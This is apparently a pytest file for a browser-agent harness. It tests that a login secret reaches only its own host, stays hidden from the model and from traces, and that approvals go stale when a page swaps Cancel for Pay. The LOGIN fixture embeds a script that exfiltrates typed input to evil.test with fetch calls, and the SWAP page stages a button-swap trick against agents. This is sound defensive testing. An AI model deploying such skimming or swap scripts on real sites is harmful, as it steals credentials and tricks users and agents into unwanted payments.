"""A secret is typed where it belongs, and seen by nobody: not by the model, and not in what a run leaves."""

import asyncio
import base64
import io
import sys
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from typing import Any

import harness
import pytest
from asgi import App, Receive, Scope, Send, give, whole
from harness.action import Action, Click, Goto, Press, Type, Wait, Zoom
from harness.clearance import Approval, Question
from harness.testing import ScriptedModel
from harness.trace.reader import Trace
from harness.trace.verify import verify
from PIL import Image

SECRET = "Zebra-hunter2!x9"
LOGIN = b"""<!doctype html><title>Log in</title><style>body{margin:0;font:16px sans-serif;background:#fff}
input,button,p{position:absolute;left:20px;width:300px;height:30px;margin:0}</style>
<form method=post action=/login>
<input name=user aria-label=User style="top:20px">
<input name=pass type=password aria-label=Password style="top:80px">
<button style="top:140px">Log in</button></form>
<p id=echo style="top:200px"></p><p style="top:260px"><a href="https://evil.test/">other</a></p>
<p id=split style="top:320px"></p>
<script>document.querySelector('[name=user]').addEventListener('input', e => {
  echo.textContent = 'Hello ' + e.target.value; document.title = e.target.value;
  const v = e.target.value; split.innerHTML = '';
  for (const c of v) split.append(Object.assign(document.createElement('b'), {textContent: c}));
  fetch('https://evil.test/take?p=' + btoa(v)).catch(() => {});
  fetch('https://evil.test/take', {method: 'POST', mode: 'no-cors', body: v}).catch(() => {});
})</script>"""
EVIL = b"""<!doctype html><title>Evil</title><input autofocus aria-label=User
style="position:absolute;left:20px;top:20px;width:300px;height:30px">"""
POLICY: dict[str, Any] = {
    "version": 1,
    "name": "secrets",
    "domains": {"navigate": ["shop.test", "evil.test"]},
    "default": {"action": "allow", "request": "allow"},
    "secrets": {"shop": {"from": "env:TEST_SHOP_SECRET", "hosts": ["shop.test"]}},
}
USER, PASSWORD = Click(x=100, y=35), Click(x=100, y=95)
FILL = Type(text="{{secret:shop}}")


class Site:
    """Two hosts, and what came to each."""

    def __init__(self) -> None:
        self.got: list[tuple[str, str, bytes]] = []

    def app(self, host: str) -> App:
        async def answer(scope: Scope, receive: Receive, send: Send) -> None:
            if scope["type"] != "http":
                return
            body = await whole(receive)
            self.got.append((host, scope["path"] + "?" + scope["query_string"].decode(), body))
            page = LOGIN if host == "shop.test" else EVIL
            await give(send, page)

        return answer

    def carried(self, host: str) -> bool:
        forms = (SECRET.encode(), base64.b64encode(SECRET.encode()))
        sent = [where.encode() + body for name, where, body in self.got if name == host]
        return any(form in one.replace(b"%21", b"!") for form in forms for one in sent)


@pytest.fixture
def site(monkeypatch: pytest.MonkeyPatch) -> Iterator[Site]:
    monkeypatch.setenv("TEST_SHOP_SECRET", SECRET)
    module, found = ModuleType("secret_site"), Site()
    vars(module).update(shop=found.app("shop.test"), evil=found.app("evil.test"))
    sys.modules["secret_site"] = module
    yield found
    del sys.modules["secret_site"]


TASK = harness.Task(
    name="login",
    goal="Log in with {{secret:shop}}.",
    start="https://shop.test/",
    hosts={"shop.test": "secret_site:shop", "evil.test": "secret_site:evil"},
)


async def run(
    tmp_path: Path, *actions: Action, sandbox: str = "bubblewrap"
) -> tuple[harness.Result, ScriptedModel]:
    model = ScriptedModel(list(actions))
    result = await harness.run(
        TASK,
        model=model,
        policy=harness.Policy.model_validate(POLICY),
        sandbox=sandbox,
        approver="deny",
        traces=tmp_path,
    )
    return result, model


def left_behind(folder: Path) -> list[str]:
    forms = [SECRET.encode(), base64.b64encode(SECRET.encode()), SECRET.encode().hex().encode()]
    files = [file for file in folder.rglob("*") if file.is_file()]
    return [str(file) for file in files for form in forms if form in file.read_bytes()]


def dark(observation: harness.Observation, x: int, y: int) -> bool:
    with Image.open(io.BytesIO(observation.screenshot.png)) as image:
        return image.convert("RGB").getpixel((x, y)) == (0x30, 0x30, 0x30)


@pytest.mark.parametrize("sandbox", ["bubblewrap", pytest.param("process", marks=pytest.mark.long)])
async def test_it_reaches_its_own_host_and_nothing_else(site: Site, tmp_path: Path, sandbox: str) -> None:
    result, model = await run(
        tmp_path,
        USER,
        FILL,
        PASSWORD,
        FILL,
        Zoom(region=(0, 0, 400, 60)),
        Press(keys=("Enter",)),
        sandbox=sandbox,
    )
    assert result.outcome == "done", result.reason
    assert site.carried("shop.test")
    assert not site.carried("evil.test")
    typed = model.seen[2]
    assert typed.results[0].status == "done", typed.results
    for y in (35, 210, 330):
        assert dark(typed, 40, y), f"what shows the secret at {y} is not painted"
    assert not dark(model.seen[0], 40, 35)
    assert not dark(model.seen[4], 40, 95), "a password field hides itself"
    zoomed = model.seen[5].results[0].image
    assert zoomed is not None
    with Image.open(io.BytesIO(zoomed.png)) as image:
        assert image.convert("RGB").getpixel((image.width // 10, image.height * 35 // 60)) == (
            0x30,
            0x30,
            0x30,
        )
    for seen in model.seen:
        assert SECRET not in seen.model_dump_json()
    assert model.seen[3].title == "[secret:shop]"
    assert SECRET not in result.model_dump_json()
    assert left_behind(Path(result.trace)) == []
    assert verify(Path(result.trace)).ok
    refused = [
        one.event.verdict.rule
        for one in Trace.open(Path(result.trace)).events
        if one.event.kind == "requested"
    ]
    assert refused.count("secrets") >= 2


async def test_it_is_not_typed_into_a_page_of_another_host(site: Site, tmp_path: Path) -> None:
    there = (Goto(url="https://evil.test/"), USER, FILL, Wait(seconds=0))
    _, model = await run(tmp_path, *there, Type(text="{{secret:none}}"), Wait(seconds=0))
    (refused,) = model.seen[3].results
    assert refused.status == "failed"
    assert "shop.test only" in refused.message
    (unknown,) = model.seen[5].results
    assert "no secret called 'none'" in unknown.message
    assert not site.carried("evil.test")


async def test_a_run_without_the_secret_it_names_does_not_start(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("TEST_SHOP_SECRET")
    with pytest.raises(harness.PolicyError, match=r"secrets\.shop: the environment has no TEST_SHOP_SECRET"):
        await run(tmp_path)
    assert site.got == []


SWAP = b"""<!doctype html><title>Swap</title>
<form method=post action=/cancel><button style="position:absolute;left:20px;top:20px;width:200px;height:40px"
>Cancel</button></form><script>
new EventSource('/swap').onmessage = () => {
  const b = document.querySelector('button'); b.textContent = 'Pay'; document.forms[0].action = '/pay';
  fetch('/swapped');
}</script>"""


class Swapping:
    """A page that swaps Cancel for Pay when it is told to."""

    def __init__(self) -> None:
        self.swap, self.swapped = asyncio.Event(), asyncio.Event()
        self.paid = False

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            return
        await receive()
        kind, body = b"text/html", SWAP
        match scope["path"]:
            case "/swap":
                await self.swap.wait()
                kind, body = b"text/event-stream", b"data: now\n\n"
            case "/swapped":
                self.swapped.set()
            case "/pay":
                self.paid = True
        await give(send, body, kind)


@pytest.mark.parametrize("sandbox", ["bubblewrap", pytest.param("process", marks=pytest.mark.long)])
async def test_cancel_swapped_for_pay_after_the_approval_is_stale(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sandbox: str
) -> None:
    shop = Swapping()
    module = ModuleType("swapping_site")
    vars(module)["app"] = shop
    monkeypatch.setitem(sys.modules, "swapping_site", module)

    class Slow:
        async def decide(self, question: Question) -> Approval:
            shop.swap.set()
            await shop.swapped.wait()
            return question.approve(by="ada")

    rules = [
        {"name": "buttons", "on": "action", "when": {"kind": "click"}, "verdict": "ask"},
        {"name": "no paying", "on": "request", "when": {"url": "https://shop.test/pay*"}, "verdict": "deny"},
    ]
    policy = POLICY | {"secrets": {}, "domains": {"navigate": ["shop.test"]}, "rules": rules}
    model = ScriptedModel([Click(x=100, y=40), Wait(seconds=0)])
    result = await harness.run(
        TASK.model_copy(update={"hosts": {"shop.test": "swapping_site:app"}, "goal": "Cancel."}),
        model=model,
        policy=harness.Policy.model_validate(policy),
        sandbox=sandbox,
        approver=Slow(),
        traces=tmp_path,
    )
    assert result.outcome == "done", result.reason
    (refused,) = model.seen[1].results
    assert (refused.status, refused.rule) == ("refused", "stale")
    assert not shop.paid
